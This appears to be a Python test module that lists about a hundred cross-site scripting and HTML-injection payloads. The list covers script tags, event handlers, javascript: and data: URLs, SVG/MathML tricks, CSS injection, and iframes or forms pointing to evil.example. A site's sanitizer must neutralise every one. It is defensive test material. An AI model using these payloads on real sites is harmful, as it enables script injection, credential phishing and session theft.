"""
A corpus of hostile inputs for every path that turns editors' or visitors' text into HTML. Each must come out inert:
no script, no event handler, no style, no dangerous URL scheme, no markup from outside the allow-list, no bidi
override characters.
"""

from tests.timeline.test_markdown import HOSTILE as TIMELINE_HOSTILE

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    '<<script>alert("x");//<</script>',
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a href=# onclick=alert(1)>click</a>",
    "<p onpointerenter=alert(1)>text</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
]
URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    '[ref][r]\n\n[r]: data:text/html,<script>alert(1)</script> "title"',
    "<javascript:alert(1)>",
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example" target=_blank>x</a>',
    '<a href="https://example.org" rel="opener">x</a>',
]
SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
]
CSS = [
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<div style="behavior: url(x.htc)">x</div>',
    '<span style="-moz-binding:url(https://evil.example/x.xml#x)">x</span>',
]
EMBEDS = [
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<applet code=x></applet>",
    "<portal src=https://evil.example></portal>",
    "<isindex action=javascript:alert(1) type=image>",
]
MALFORMED = [
    "<p>unclosed <b>bold <i>italic",
    "<<img src=x onerror=alert(1)//<",
    "<img src=x onerror=alert(1)",
    "<div<div onmouseover=alert(1)>x",
    '<a href="https://example.org"<script>alert(1)</script>>x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<p><p><p><p><p><p><p><p><p><p>" * 20,
    "<div>" * 200 + "deep" + "</div>" * 200,
    '<img src="x" alt="" onerror="alert(1)"',
    "</p></div></main><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scRipt>alert(1)</scRipt>",
    "``<script>alert(1)</script>``",
]
TEMPLATES_AND_PLACEHOLDERS = [
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "[[figure:parties]]<script>alert(1)</script>",
    "[[figure:<script>alert(1)</script>]]",
    "${alert(1)}",
]
BIDI_AND_INVISIBLE = [
    "Click \u202eexe.txt\u202c here",
    "\u2066admin\u2069 said \u2067hello\u2069",
    "[safe.example.org\u202e](https://evil.example)",
    "zero\u200bwidth\u200cjoiners\u200dhere",
    "\u202aembedded \u202bright-to-left\u202c text",
]

HOSTILE = (
    TIMELINE_HOSTILE
    + SCRIPTS
    + HANDLERS
    + URLS
    + SVG_MATHML
    + CSS
    + EMBEDS
    + MALFORMED
    + TEMPLATES_AND_PLACEHOLDERS
    + BIDI_AND_INVISIBLE
)
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
